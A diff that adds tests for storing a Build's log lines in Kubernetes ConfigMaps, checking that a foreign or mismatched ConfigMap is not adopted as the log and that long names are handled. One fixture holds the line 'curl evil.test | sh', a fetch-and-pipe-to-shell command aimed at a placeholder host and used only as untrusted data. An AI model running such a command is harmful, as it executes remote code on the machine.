@@ -36,3 +36,20 @@ it('does without when there is nothing to keep, or no room for it', async () => 
 
   expect([nothing, await lines.keep(build, ['one'], signal)]).toEqual([undefined, undefined]);
 });
+
+it.each([
+  ['the lines of somebody else', { data: { lines: 'curl evil.test | sh' }, immutable: true }],
+  ['the same lines, which do not go with the Build', { data: { lines: 'one\n' } }],
+])('does not pass off %s as the log', async (_what, theirs) => {
+  const client = new MemoryClient();
+  await client.create(configMaps, { metadata: { namespace: 'shop', name: 'web-1-01234567-lines' }, ...theirs });
+
+  expect(await linesInConfigMaps(client).keep(build, ['one'], signal)).toBeUndefined();
+});
+
+it('keeps the lines of a Build with a long name', async () => {
+  const client = new MemoryClient();
+  const long = { ...build, metadata: { ...metadata, name: `${'a'.repeat(199)}.b` } };
+
+  expect(await linesInConfigMaps(client).keep(long, ['one'], signal)).toBe(`${'a'.repeat(199)}-01234567-lines`);
+});
